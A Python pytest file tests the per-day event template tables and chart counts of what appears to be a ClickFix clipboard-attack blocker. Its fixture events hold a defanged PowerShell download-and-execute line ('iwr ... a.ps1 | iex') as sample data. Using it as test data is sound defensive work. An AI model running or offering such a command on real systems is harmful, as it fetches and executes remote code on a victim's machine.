"""The events per day and template (app.storage.templates): kept exact through appends,
deletions and changes by another program, filled in for an old file step by step, and a
common word's chart answered from it equals a brute-force count, without reading the events
of the days it answers."""

from __future__ import annotations

import sqlite3
from collections import Counter
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from sqlite_utils import Database

from app.events import Event
from app.storage import EventFilter, EventStore, queries, schema, search_index, templates
from app.storage.rows import INSERT_EVENT, event_row
from tests.app.storage.conftest import T0, Clock, make_event
from tests.app.storage.test_search_hostile import _contains

UTC_FIRST = T0.replace(tzinfo=None, hour=0) - timedelta(days=1)  # a UTC midnight


def _events(days: int = 6, per_day: int = 30) -> list[Event]:
    events = []
    for i in range(days * per_day):
        events.append(
            make_event(
                time=T0 + timedelta(minutes=47 * i),
                level=("suspicious", "malicious", "info")[i % 3],
                kind=("paste_blocked", "paste_warned")[i % 2],
                target=("run_dialog", None, "terminal")[i % 3],
                summary=("A page put a PowerShell command on the clipboard",
                         "A page put a hidden PowerShell script there")[i % 2],
                rules=("clickfix.run-dialog",) if i % 4 else ("other.rule",),
                text=f"iwr hxxps://cdn{i}[.]test/a.ps1 | iex" + (" \x00 tail" if i % 9 == 0 else ""),
            )
        )  # fmt: skip
    return events


def _stored(store: EventStore, events: list[Event]) -> list[Event]:
    out = []
    for event in events:
        event_id = store.append(event)
        assert event_id is not None
        out.append(event.with_id(event_id))
    return out


def _table(path: Path) -> Counter[tuple[object, ...]]:
    conn = sqlite3.connect(path, isolation_level=None)
    try:
        rows = conn.execute(
            "SELECT day, level, kind, target, summary, rules, n FROM event_templates"
        ).fetchall()
        truth = conn.execute(
            "SELECT time / 86400000000, level, kind, ifnull(target, char(0)), summary, rules, "
            "count(*) FROM events WHERE id > (SELECT pending FROM event_templates_fill) "
            "AND id <= (SELECT counted FROM event_templates_fill) GROUP BY 1, 2, 3, 4, 5, 6"
        ).fetchall()  # the events counted in (the newest batch is read directly)
    finally:
        conn.close()
    assert all(row[-1] > 0 for row in rows)  # no row of a day that lost its last event
    assert Counter({r[:-1]: r[-1] for r in rows}) == Counter({r[:-1]: r[-1] for r in truth})
    return Counter({r[:-1]: r[-1] for r in rows})


def _chart(
    store: EventStore, f: EventFilter, first: datetime, width: timedelta, bins: int,
    offset: timedelta = timedelta(0),
) -> list[Counter[str]]:  # fmt: skip
    answers = list(store.counts_in_bins_stepwise(f, first, width, bins, utc_offset=offset))
    out: list[Counter[str]] = [Counter() for _ in range(bins)]
    for when, level, n in answers[-1][1]:
        out[int((when - first) // width)][level] += n
    return out


def _brute(
    events: list[Event], f: EventFilter, first: datetime, width: timedelta, bins: int,
    offset: timedelta = timedelta(0),
) -> list[Counter[str]]:  # fmt: skip
    out: list[Counter[str]] = [Counter() for _ in range(bins)]
    for e in events:
        i = int(((e.time + offset).replace(tzinfo=None) - first) // width)
        if not 0 <= i < bins or not _contains(e, f.search or ""):
            continue
        if f.levels is not None and e.level not in f.levels:
            continue
        if f.targets is not None and e.target not in f.targets:
            continue
        if (f.since is not None and e.time < f.since) or (
            f.until is not None and e.time >= f.until
        ):
            continue
        out[i][e.level] += 1
    return out


@pytest.fixture
def common(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every search is a common word (charted a part of a bin at a time), as on a big log."""
    monkeypatch.setattr(queries, "common", lambda *a: True)
    monkeypatch.setattr(search_index, "INDEX_BATCH", 16)  # some events above the mark
    monkeypatch.setattr(search_index, "INDEX_LAG", 16)  # appends index a batch as soon as one waits


def test_the_table_follows_appends_deletions_and_changes(store: EventStore) -> None:
    events = _stored(store, _events())
    _table(store.path)
    assert store.delete([e.id or 0 for e in events[:40]]) == 40  # whole days go
    conn = sqlite3.connect(store.path, isolation_level=None)
    conn.execute("UPDATE events SET level = 'info', summary = 'changed' WHERE id % 7 = 0")
    conn.execute("UPDATE events SET time = time + 86400000000 WHERE id % 5 = 0")
    conn.close()
    _table(store.path)
    store.close()  # counts in the events above the mark
    assert templates.counted(sqlite3.connect(store.path)) == events[-1].id
    _table(store.path)


@pytest.mark.parametrize(
    "f",
    [
        EventFilter(search="powershell"),  # in every summary
        EventFilter(search="PAGE PUT A"),
        EventFilter(search="clickfix", levels=frozenset({"malicious"})),  # in some rules only
        EventFilter(search="powershell", targets=frozenset({"terminal"})),
        # a period whose ends are not at midnight: a part of a day is taken away from a day
        EventFilter(
            search="powershell",
            since=T0 + timedelta(hours=30),
            until=T0 + timedelta(days=3, hours=2),
        ),
        EventFilter(search="hidden"),  # in half the summaries: only the events can tell
        EventFilter(search="tail"),  # after a NUL in some texts
        EventFilter(search="cdn1"),  # in texts
    ],
    ids=lambda f: f"{f.search}-{sorted(f.levels or f.targets or [])}-{f.since is not None}",
)
def test_a_common_words_chart_is_a_brute_force_count(
    store: EventStore, common: None, f: EventFilter
) -> None:
    events = _stored(store, _events())
    for offset in (timedelta(0), timedelta(hours=5, minutes=30), timedelta(hours=-3)):
        first = UTC_FIRST + offset
        for width, bins in ((timedelta(days=1), 9), (timedelta(days=2), 5), (timedelta(hours=7), 30)):  # fmt: skip
            assert _chart(store, f, first, width, bins, offset) == _brute(
                events, f, first, width, bins, offset
            ), (offset, width)


def test_whole_days_are_answered_without_reading_the_events(
    store: EventStore, common: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    events = _stored(store, _events())
    f = EventFilter(search="powershell")
    read: list[tuple[int, int]] = []
    real = queries.span_counts

    def span_counts(conn: sqlite3.Connection, g: EventFilter, start: int, end: int) -> Counter[str]:
        read.append((start, end))
        return real(conn, g, start, end)

    monkeypatch.setattr(queries, "span_counts", span_counts)
    width = timedelta(days=1)
    assert _chart(store, f, UTC_FIRST, width, 9) == _brute(events, f, UTC_FIRST, width, 9)
    assert read == []  # UTC days: the table answered every one
    # a word the table cannot answer is read (the barrier: the same chart, read)
    f = EventFilter(search="hidden")
    assert _chart(store, f, UTC_FIRST, width, 9) == _brute(events, f, UTC_FIRST, width, 9)
    assert read


def test_an_old_file_is_counted_in_step_by_step(
    data_dir: Path, clock: Clock, common: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    events = _events()
    data_dir.mkdir()
    db = Database(sqlite3.connect(data_dir / "events.db", isolation_level=None))
    schema.migrate(db, schema.MIGRATIONS[:6])
    old = []
    for event in events[:150]:
        old.append(event.with_id(int(db.execute(INSERT_EVENT, event_row(event)).lastrowid or 0)))
    db.close()
    f = EventFilter(search="powershell")
    width = timedelta(days=1)
    clock.now = T0  # retention keeps every event
    with EventStore.open(data_dir, clock=clock) as store:
        conn = sqlite3.connect(store.path, isolation_level=None)
        assert templates.pending(conn) == templates.counted(conn) == old[-1].id
        new = _stored(store, events[150:])
        every = old + new
        assert _chart(store, f, UTC_FIRST, width, 9) == _brute(every, f, UTC_FIRST, width, 9)
        conn.execute("BEGIN IMMEDIATE")
        assert templates.fill_step(conn, 50)
        conn.execute("ROLLBACK")  # interrupted: as it was
        assert templates.pending(conn) == old[-1].id
        conn.execute("BEGIN IMMEDIATE")
        assert templates.fill_step(conn, 50)
        conn.execute("COMMIT")
        store.delete([old[-1].id or 0, old[0].id or 0])  # one counted in, one not yet
        every = [e for e in every if e.id not in (old[-1].id, old[0].id)]
        assert _chart(store, f, UTC_FIRST, width, 9) == _brute(every, f, UTC_FIRST, width, 9)
        store.apply_retention()  # resumes and finishes
        assert templates.pending(conn) == 0
        conn.close()
        _table(store.path)
        assert store.count() == len(every)
        assert _chart(store, f, UTC_FIRST, width, 9) == _brute(every, f, UTC_FIRST, width, 9)
    assert sum(_table(data_dir / "events.db").values()) == len(every)  # closing counted the rest


@pytest.mark.parametrize("search", ["powershell", "clickfix", "hidden", "tail", "page put"])
def test_a_kept_tally_built_from_the_table_is_a_brute_force_count(
    store: EventStore, common: None, search: str
) -> None:
    """The viewer keeps a common word's matches per day (app.storage.search_counts): the days
    the table answers and the days read from the events, added, are exact for every level,
    kind, target and period asked of it afterwards, also after events are deleted."""
    events = _stored(store, _events())
    width = timedelta(days=1)
    for _ in store.keep_counts(search, UTC_FIRST, width, 9):
        pass
    assert store.delete([e.id or 0 for e in events[::11]]) > 0
    events = [e for i, e in enumerate(events) if i % 11]
    _stored(store, [make_event(time=T0, summary="after the tally", text="powershell")])
    events.append(make_event(time=T0, summary="after the tally", text="powershell"))
    for f in (
        EventFilter(search=search),
        EventFilter(search=search, levels=frozenset({"malicious"})),
        EventFilter(search=search, targets=frozenset({"terminal"})),
        EventFilter(search=search, since=T0 + timedelta(hours=30), until=T0 + timedelta(days=3)),
    ):
        assert store.kept_count(f) == sum(
            sum(c.values()) for c in _brute(events, f, UTC_FIRST, width, 9)
        ), f
        assert _chart(store, f, UTC_FIRST, width, 9) == _brute(events, f, UTC_FIRST, width, 9), f
